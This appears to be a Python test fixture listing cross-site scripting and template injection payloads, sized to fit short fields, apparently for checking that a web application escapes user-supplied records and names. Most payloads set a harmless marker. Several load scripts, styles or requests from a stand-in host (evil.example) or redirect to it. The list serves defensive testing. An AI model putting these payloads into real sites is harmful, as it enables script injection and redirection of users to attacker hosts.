"""What somebody would write into a record or a name, so that a browser of ours runs it."""

DO = "window.__xss=1"

# Each fits into the shortest field that holds one: 100 characters.
HOSTILE: tuple[str, ...] = (
    f"<script>{DO}</script>",
    f"</script><script>{DO}//",
    f"<ScRiPt/x>{DO}</sCrIpT >",
    f"<scr<script>ipt>{DO}</script>",
    "<script src=//evil.example/a.js></script>",
    f'<img src=x onerror="{DO}">',
    f"<img src=x:x onerror={DO}//",
    "<img src=https://evil.example/a.png>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<math><mtext><mglyph><style><img src onerror={DO}>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f'<iframe srcdoc="<script>top.{DO}</script>">',
    f'<a href="javascript:{DO}">here</a>',
    f"javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f'" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' x='",
    f'"><script>{DO}</script>',
    f"</textarea></title></pre><script>{DO}</script>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Go</button>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<style>@import'//evil.example/a.css';*{display:none}</style>",
    '<b hx-get="https://evil.example/" hx-trigger="load">',
    f'<b hx-on::load="{DO}" data-hx-get="/logout/">',
    f"<!--><script>{DO}</script><!--",
    "{{ 191|add:1000 }} {{191*7}} {% csrf_token %} {% include '403.html' %} ${191*7}",
    f"＜script＞{DO}\u202e\u2028\\u003cscript\\u003e&lt;script&gt;&#60;script>",
)
